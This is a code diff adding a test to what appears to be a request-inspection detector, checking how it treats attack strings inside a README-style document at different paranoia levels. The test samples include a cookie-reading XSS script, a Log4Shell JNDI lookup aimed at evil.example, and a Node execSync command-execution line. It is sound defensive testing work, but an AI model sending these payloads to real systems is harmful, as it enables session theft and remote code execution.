@@ -239,6 +239,37 @@ describe('createDetector', () => {
     assert.equal(detector.inspect(body(() => ({ ok: false }))).blocked, false);
   });
 
+  test('in a document, constructs that documents hold count from their documents level; exploits count as anywhere', () => {
+    const body = (text: string): Input => ({ location: 'body.body', value: text, kind: 'body' });
+    const readme = (line: string) =>
+      [
+        '# runner',
+        '',
+        'Runs a command for each file of a directory, and reports what each run printed.',
+        '',
+        '```js',
+        line,
+        '```',
+        '',
+        'Released under the MIT licence; see LICENSE for the terms.',
+      ].join('\n');
+    const spawn = "const { execSync } = require('child_process'); execSync(command);";
+    // The same line alone is a payload; inside a README it is an example, counted from paranoia 2.
+    assert.equal(createDetector().inspect([body(spawn)]).blocked, true);
+    assert.equal(createDetector().inspect([body(readme(spawn))]).blocked, false);
+    assert.equal(createDetector({ paranoia: 2 }).inspect([body(readme(spawn))]).blocked, true);
+    // Rules without a documents level decide in a document too.
+    assert.equal(
+      createDetector().inspect([body(readme('<script>alert(document.cookie)</script>'))]).blocked,
+      true,
+    );
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell lookup as sent
+    assert.equal(createDetector().inspect([body(readme('${jndi:ldap://evil.example/a}'))]).blocked, true);
+    // Encoded line breaks make no document.
+    const encoded = readme(spawn).replaceAll('\n', '%0a');
+    assert.equal(createDetector().inspect([body(encoded)]).blocked, true);
+  });
+
   test('refuses an out-of-range paranoia level', () => {
     assert.throws(() => createDetector({ paranoia: 5 }), RangeError);
   });
